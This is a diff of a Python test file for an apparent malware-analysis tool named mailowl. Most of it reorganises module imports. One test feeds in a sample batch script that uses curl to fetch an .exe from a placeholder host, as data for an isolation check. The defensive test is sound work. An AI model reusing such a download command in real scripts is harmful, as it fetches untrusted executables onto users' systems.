@@ -19,14 +19,14 @@ from typing import Any
 import pytest
 
 from mailowl.analysis import ANALYZERS
-from mailowl.analysis.known import KnownReport
 from mailowl.analysis.pe import PeReport
 from mailowl.analysis.sample import Sample
-from mailowl.analysis.service import AnalysisService, QueueFull
+from mailowl.core.service import AnalysisService, QueueFull
 from mailowl.results import Result
 from mailowl.rules.context import JournalLookup
 from mailowl.rules.engine import Engine, Verdict
 from mailowl.store import Store
+from mailowl.store.journal import KnownReport
 
 from .helpers import engine
 
@@ -223,7 +223,7 @@ async def test_archive_members_are_looked_up_in_the_store_from_the_worker(tmp_pa
 
 
 def test_only_small_samples_no_risky_parser_reads_stay_in_the_thread() -> None:
-    from mailowl.analysis.workers import IN_THREAD_MAX, needs_isolation
+    from mailowl.core.workers import IN_THREAD_MAX, needs_isolation
 
     assert not needs_isolation(b"@echo off\r\ncurl http://x.invalid/a.exe\r\n")
     assert not needs_isolation(bytes(range(256)) * 8)
@@ -258,7 +258,7 @@ async def test_hang_in_the_thread_path_is_answered_and_the_thread_replaced(pe_se
 
 
 def test_a_failed_member_lookup_leaves_the_worker_usable() -> None:
-    from mailowl.analysis.workers import Worker, WorkerError
+    from mailowl.core.workers import Worker, WorkerError
 
     eng = engine(["archive", "known", "final_rule"])
     worker = Worker(lambda sample, lookup: eng.run(sample, lookup).to_wire(), "lookup-test", 256 * 2**20)
